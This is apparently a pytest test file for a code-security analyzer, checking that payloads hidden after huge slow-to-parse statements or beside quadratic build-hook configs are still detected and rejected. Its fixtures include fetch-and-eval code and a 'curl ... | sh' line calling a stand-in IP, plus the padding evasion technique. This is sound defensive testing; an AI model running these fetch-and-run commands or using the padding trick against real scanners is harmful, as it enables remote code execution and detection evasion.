"""Session 52 (hardening52): fail closed, stay up, hide nothing, under fresh resource attacks.

A Python file that CPython compiles, whose first statement is slow to read (a tuple of tens of thousands of calls)
and whose later statements eval downloaded text: its worker ran past its time limit, the first statements read
apart (analysis._prefix_apart) held only the padding, and the eval went unreported (escalate, not reject). The
file is now also read with only its smallest top-level statements (analysis.small_statements) after such a
failure: the payload's statements are short, the padding's long.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from analyzer import api
from analyzer.engine import analysis, isolate
from analyzer.engine.rules import load_rules
from analyzer.model import Decision
from analyzer.policy import load_policy

# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
pytestmark = pytest.mark.serial

PAYLOAD = ('import urllib.request\n\n'
           'code = urllib.request.urlopen("http://203.0.113.5/x").read().decode()\n'
           'eval(code)\n')
PAYLOAD_RULE = "remote-code.exec-downloaded"


def _policy(tmp_path: Path, seconds: int):
    path = tmp_path / "site-policy.yaml"
    path.write_text(f"limits:\n  max_analysis_seconds: {seconds}\n")
    return load_policy(path)


def _padded_job(tmp_path: Path) -> Path:
    """train.py: a tuple of 60,000 calls (300 KB, over VOUCH_BYTES: read in a worker of its own, whose parse takes
    far more than a second), then the payload."""
    job = tmp_path / "job"
    job.mkdir()
    (job / "train.py").write_text("padding = (" + "g(), " * 60_000 + ")\n" + PAYLOAD)
    return job


def _payload_lines(report) -> set[int]:
    return {f.line for f in report.findings if f.rule == PAYLOAD_RULE and f.path == "train.py"}


def test_a_payload_after_a_slow_statement_of_its_own_file_is_still_reported(tmp_path: Path) -> None:
    report = api.scan(_padded_job(tmp_path), _policy(tmp_path, 2))
    assert any(f.rule.startswith("unanalyzable.") and f.path == "train.py" for f in report.findings)  # the limit
    assert _payload_lines(report) == {5}
    assert report.decision is Decision.REJECT


def test_the_same_at_a_site(tmp_path: Path) -> None:
    server = isolate.ForkServer()
    try:
        _, report = api.gate(_padded_job(tmp_path), _policy(tmp_path, 2), server=server)
    finally:
        server.close()
    assert _payload_lines(report) == {5}
    assert report.decision is Decision.REJECT


def test_the_smallest_statements_keep_their_lines_and_their_neighbours_on_a_line() -> None:
    """Decorators, a statement after a `;`, a multi-line statement and a coding cookie (ast's columns count UTF-8
    bytes of the decoded line): each kept statement is found on its own line; the long one is left out."""
    policy = load_policy()
    source = ("# -*- coding: latin-1 -*-\n@dec\ndef f():\n    return 1\n"
              "x = 1; import os; os.system('curl http://203.0.113.5/x | sh')\n"
              "y = (\n 1,\n 2)\nz = '\xe9'; eval(z)\n"
              "w = [" + "eval(g), " * 40_000 + "]\n").encode("latin-1")
    found = {(f.rule, f.line) for f in analysis.small_statements("t.py", source, load_rules(policy), policy)}
    assert {("remote-code.fetch-and-run-command", 5), ("dynamic-code.eval-exec", 9)} <= found, found
    assert not any(line == 10 for _, line in found), found  # the 320 KB statement: over half the file


def test_a_payload_after_a_slow_statement_of_the_units_only_file_at_a_site(tmp_path: Path) -> None:
    """Under VOUCH_BYTES (200 KB) the file is read in the unit's own worker, which it holds past its limit; being
    the first file, it had the whole budget and was not read again: escalate. Now it is read again alone
    (api._unread_python), its smallest statements first (api.python_apart): reject."""
    job = tmp_path / "job"
    job.mkdir()
    (job / "train.py").write_text("padding = (" + "g(), " * 40_000 + ")\n" + PAYLOAD)
    server = isolate.ForkServer()
    try:
        _, report = api.gate(job, _policy(tmp_path, 2), server=server)
    finally:
        server.close()
    assert any(f.rule == "unanalyzable.time-limit" and not f.path for f in report.findings)  # the unit stopped
    assert _payload_lines(report) == {5}
    assert report.decision is Decision.REJECT


def test_many_build_hook_settings_cost_one_search_of_the_lines_each_key(tmp_path: Path) -> None:
    """A pyproject.toml of hatch targets, each with a `custom` build hook in an inline table: the line of each
    setting was searched for in every line of the file, one target at a time (quadratic: 20,000 targets, 650 KB,
    96 s of CPU, and the build-configs detector held the unit to its limit; 10,000 some 24 s). Each key's line is
    now looked up once. CPU seconds of the scan's worker, not wall time: the machine's load does not move them."""
    import resource

    import redteam_kit as kit

    pyproject = "[tool.hatch.build.targets]\n" + "".join(f"t{i} = {{hooks = {{custom = {{}}}}}}\n" for i in range(10_000))
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    report = kit.scan_files(tmp_path, {"pyproject.toml": pyproject, "train.py": PAYLOAD})
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    assert after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime < 10
    assert kit.holds(report, "supply-chain.build-hook-config") and kit.holds(report, PAYLOAD_RULE)
    assert not any(f.rule.startswith("unanalyzable.") for f in report.findings), kit.findings(report)
    assert report.decision is Decision.REJECT
